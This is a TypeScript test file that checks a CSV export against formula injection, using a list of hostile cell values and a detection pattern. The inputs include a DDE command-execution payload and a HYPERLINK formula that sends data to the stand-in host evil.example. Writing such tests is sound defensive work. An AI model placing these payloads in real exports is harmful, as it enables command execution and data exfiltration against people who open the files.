/** No cell of an export becomes a formula, whatever stands in the names and reasons of a hall. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvOf } from '../../hall/csv.ts'
import { filesUnder } from '../kit/files-under.ts'

/** Reads a table as RFC 4180 says. */
const parsed = (text: string): string[][] => {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? ''
    if (quoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else quoted = false
    } else if (sign === '"') quoted = true
    else if (sign === ',' || sign === '\n') {
      rows.at(-1)?.push(cell)
      cell = ''
      if (sign === '\n') rows.push([])
    } else if (sign !== '\r') cell += sign
  }
  return rows.slice(0, -1)
}
/** What makes a spreadsheet run a cell. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u

describe('cells', () => {
  it.each([
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example?x="&A1,"看这里")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u0000=1+1',
    ' =1+1',
    '\u3000=1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '"=1+1"',
    'a,=1+1',
    '",=1+1',
    '=1+1\r\n=2+2',
  ])('X10 %j is text in a spreadsheet, and the same text', (text) => {
    const [row] = parsed(csvOf([[text, 'after']]).slice(1))
    expect(row).toHaveLength(2)
    expect(row?.[0]).not.toMatch(RUNS)
    expect(row?.[0]?.replace(/^'/, '').replaceAll('\r', '')).toBe(text.replaceAll('\r', ''))
    expect(row?.[1]).toBe('after')
  })

  it('X10 numbers stay numbers, negative ones too, and ordinary text is as it was', () => {
    expect([-5, 0, 12.5].map(csvCell)).toEqual(['-5', '0', '12.5'])
    expect(csvCell('社保卡申领（个人）')).toBe('社保卡申领（个人）')
  })

  it('X10 whatever anybody types, no row breaks and no cell runs', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (rows) => {
          const text = csvOf(rows)
          expect(text.startsWith('\uFEFF')).toBe(true)
          const read = parsed(text.slice(1))
          expect(read.map((row) => row.length)).toEqual(rows.map(() => 2))
          for (const cell of read.flat()) expect(cell).not.toMatch(RUNS)
        },
      ),
      { numRuns: 100 },
    )
  })

  it('X10 every table of the product is written in this one place', () => {
    const own = ['server', 'counter', 'hall', 'client', 'kiosk', 'display']
      .flatMap((room) => filesUnder(room))
      .map(String)
    // The mark without which spreadsheets read no Chinese, and cells put together by hand.
    expect(own.filter((text) => /\\uFEFF/.test(text) && /\r\n|\\r\\n/.test(text))).toHaveLength(1)
    const offered = own.filter((text) => text.includes("'text/csv"))
    expect(offered.length).toBeGreaterThan(1)
    expect(offered.filter((text) => !/csvOf\(|csvAnswer|Csv\(/.test(text)).map((text) => text.slice(0, 80))).toEqual([])
  })
})
